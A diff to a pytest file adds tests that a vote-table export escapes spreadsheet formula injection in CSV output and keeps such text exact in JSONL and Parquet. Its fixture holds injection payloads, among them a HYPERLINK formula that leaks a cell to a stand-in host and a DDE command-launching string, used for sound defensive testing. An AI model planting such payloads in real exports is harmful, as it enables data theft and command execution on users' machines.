@@ -12,7 +12,7 @@ import pandas as pd
 import pyarrow.parquet as pq
 import pytest
 
-from datamodel.vote_table import COLUMNS, EXPORT_FORMATS, EXPORT_SCHEMA, export_votes, votes_frame
+from datamodel.vote_table import COLUMNS, EXPORT_FORMATS, EXPORT_SCHEMA, csv_cell_text, export_votes, votes_frame
 from datamodel.connection import connect
 from tools.scale_fixture import ScaleSpec, build_scale_database
 
@@ -66,7 +66,8 @@ def read_back(path, fmt: str) -> list[dict]:
         reader = csv.reader(handle)
         header = next(reader)
         types = {field.name: str(field.type) for field in EXPORT_SCHEMA}
-        convert = {"int64": int, "double": float, "bool": lambda text: text == "true", "string": str}
+        # a text a spreadsheet would run as a formula is written with a leading quote (csv_cell_text undoes it)
+        convert = {"int64": int, "double": float, "bool": lambda text: text == "true", "string": csv_cell_text}
         # pyarrow quotes every text value, so an unquoted empty field is a missing value
         return [{name: None if text == "" and types[name] != "string" else convert[types[name]](text)
                  for name, text in zip(header, row)} for row in reader]
@@ -123,3 +124,73 @@ def test_bad_formats_and_chunks_are_refused(study_db, tmp_path):
         export_votes(study_db, tmp_path / "votes.xlsx")
     with pytest.raises(ValueError, match="chunk_rows must be at least 1"):
         export_votes(study_db, tmp_path / "votes.csv", chunk_rows=0)
+
+
+# --- spreadsheet formula injection (OWASP "CSV Injection"): the CSV escapes, JSONL and Parquet stay exact -----------
+
+HOSTILE = {"prompt": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "model": "+cmd|' /C calc'!A0",
+           "voter": "@SUM(1)", "battle": "-2+3", "reason": "\tleading tab", "subset": "\rcarriage return"}
+
+
+@pytest.fixture
+def hostile_db(tmp_path):
+    """A small vote table whose first vote carries text a spreadsheet would run as a formula, in every kind of
+    text column, and a negative number in a numeric column."""
+    build_scale_database(ScaleSpec(votes=40, annotators=4, models=3, prompts=5), tmp_path / "arena.db",
+                         tmp_path / "media", progress=lambda *_: None)
+    db = connect(tmp_path / "arena.db")
+    db.execute("PRAGMA foreign_keys = OFF")  # the battle id changes in votes and battles together
+    with db.conn:
+        prompt_id, model_id, battle_id = db.execute(
+            "SELECT v.prompt_id, v.left_model_id, v.battle_id FROM votes v "
+            "WHERE v.id = 1").fetchone()
+        db.execute("UPDATE prompts SET text = ?, subset = ? WHERE id = ?",
+                   [HOSTILE["prompt"], HOSTILE["subset"], prompt_id])
+        db.execute("UPDATE models SET name = ? WHERE id = ?", [HOSTILE["model"], model_id])
+        db.execute("UPDATE battles SET id = ? WHERE id = ?", [HOSTILE["battle"], battle_id])
+        db.execute("UPDATE votes SET battle_id = ?, voter = ?, excluded_reason = ?, seconds_to_vote = -2.5 "
+                   "WHERE id = 1", [HOSTILE["battle"], HOSTILE["voter"], HOSTILE["reason"]])
+    yield db
+    db.close()
+
+
+def test_the_csv_export_escapes_cells_a_spreadsheet_would_run_as_formulas(hostile_db, tmp_path):
+    path = tmp_path / "votes.csv"
+    export_votes(hostile_db, path)
+    with open(path, newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    first = rows[0]
+    assert first["prompt"] == "'" + HOSTILE["prompt"] and first["voter"] == "'" + HOSTILE["voter"]
+    assert first["battle_id"] == "'" + HOSTILE["battle"] and first["excluded_reason"] == "'" + HOSTILE["reason"]
+    assert first["subset"] == "'" + HOSTILE["subset"]
+    assert "'" + HOSTILE["model"] in (first["model_a"], first["model_b"])
+    risky = ("=", "+", "-", "@", "\t", "\r")
+    assert not [(row["vote_id"], name, text) for row in rows for name, text in row.items()
+                if text.startswith(risky) and str(EXPORT_SCHEMA.field(name).type) == "string"]
+    assert first["seconds_to_vote"] == "-2.5"  # a number stays a number
+    assert "'" + HOSTILE["model"] in {row["winner"] for row in rows}
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
+def test_jsonl_and_parquet_keep_formula_like_text_exactly(hostile_db, tmp_path, fmt):
+    path = tmp_path / f"votes.{fmt}"
+    export_votes(hostile_db, path)
+    first = read_back(path, fmt)[0]
+    assert (first["prompt"], first["voter"], first["battle_id"]) == (HOSTILE["prompt"], HOSTILE["voter"],
+                                                                     HOSTILE["battle"])
+    assert (first["excluded_reason"], first["subset"]) == (HOSTILE["reason"], HOSTILE["subset"])
+    assert HOSTILE["model"] in (first["model_a"], first["model_b"]) and first["seconds_to_vote"] == -2.5
+
+
+def test_the_formula_escape_is_undone_exactly_by_csv_cell_text():
+    import pyarrow as pa
+
+    from datamodel.vote_table import escape_formulas
+
+    texts = ["=1+1", "'=1+1", "''@x", "'plain", "plain", "", "-", "'", "a=b", "\tx", "\x00x", None]
+    batch = pa.RecordBatch.from_arrays([pa.array(texts, pa.string()), pa.array([-1.0] * len(texts))],
+                                       names=["text", "number"])
+    escaped = escape_formulas(batch)
+    assert escaped.column(0).to_pylist()[:5] == ["'=1+1", "''=1+1", "'''@x", "'plain", "plain"]
+    assert [csv_cell_text(text) for text in escaped.column(0).to_pylist()[:-1]] == texts[:-1]
+    assert escaped.column(0).to_pylist()[-1] is None and escaped.column(1) == batch.column(1)
